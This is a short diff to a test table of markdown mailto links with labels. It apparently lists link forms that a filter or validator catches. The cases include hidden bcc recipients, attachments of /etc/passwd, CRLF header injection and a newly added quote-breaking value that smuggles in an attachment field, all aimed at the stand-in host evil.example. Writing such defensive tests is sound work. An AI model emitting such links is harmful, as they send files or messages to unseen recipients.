@@ -245,6 +245,7 @@ _MAIL = links(
         "[x](mailto:a@evil.example?bcc=b@evil.example)": "sent to more, unseen",
         "[x](mailto:a@evil.example?body=all+of+it)": "written already",
         "[x](mailto:a@evil.example?attach=/etc/passwd)": "takes a file along",
+        "[x](mailto:a@evil.example?cc=b@evil.example%27,attachment=%27/etc/passwd)": "ends a quoted reader",
         "[x](mailto:a@evil.example?subject=x%0D%0ABcc:b@evil.example)": "a line break makes another field",
         "[x](mailto:a@evil.example,b@evil.example)": "two readers",
         "[x](MAILTO:a@evil.example?X-Mailer=x)": "any other field",
